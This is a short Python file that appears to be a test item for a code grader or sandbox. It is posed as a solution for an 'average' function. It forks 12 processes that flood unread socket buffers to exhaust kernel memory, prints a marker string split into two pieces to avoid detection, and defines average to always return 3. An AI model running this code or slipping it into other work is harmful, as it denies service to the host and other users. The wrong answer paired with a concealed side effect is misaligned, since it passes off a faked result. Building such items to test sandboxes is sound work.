# Fills sockets and pipes that nobody reads from: the system's kernel holds what is in them.
# (Stops by itself at 4 GB.)
#
# points: average 0
# hides: TOOK
# says: memory
# %% answer="average"
import os
import socket
import time


def fill():
    kept, held = [], 0
    try:
        while True:
            pair = socket.socketpair()
            kept.append(pair)
            for one in pair:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
                one.setblocking(False)
                try:
                    while True:
                        held += one.send(bytes(2**16))
                except OSError:
                    pass
    except OSError:
        pass
    return kept, held


children = []
for number in range(12):
    child = os.fork()
    if child == 0:
        kept = fill()
        time.sleep(20)
        os._exit(0)
    children.append(child)
time.sleep(15)
print("TO" + "OK")


def average(numbers):
    return 3
